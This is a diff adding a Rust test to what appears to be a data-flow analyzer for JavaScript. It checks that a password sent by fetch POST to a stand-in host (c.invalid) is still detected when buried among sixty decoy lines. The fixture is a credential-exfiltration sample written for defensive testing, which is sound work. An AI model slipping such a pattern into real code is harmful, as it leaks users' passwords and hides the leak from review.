@@ -81,3 +81,15 @@ exports.open = (password) => {{ {sender} }};"
         assert!(found.iter().any(|flow| flow == WANTED), "{found:?}\n{text}");
     }
 }
+
+#[test]
+fn decoys_do_not_push_out_what_is_kept() {
+    let decoys: String = (0..60).map(|n| format!("this.rows.push({n});\n")).collect();
+    let text = format!(
+        "class K {{ rows = []; warm() {{ {decoys} }} add(v) {{ this.rows.push(v); }} cool() {{ {decoys} }}
+  send() {{ fetch('https://c.invalid/p', {{ method: 'POST', body: this.rows.join() }}); }} }}
+exports.open = (password) => {{ const k = new K(); k.add(password); k.send(); }};"
+    );
+    let found = flows(&[("i.js", &text)]);
+    assert!(found.iter().any(|flow| flow == WANTED), "{found:?}");
+}
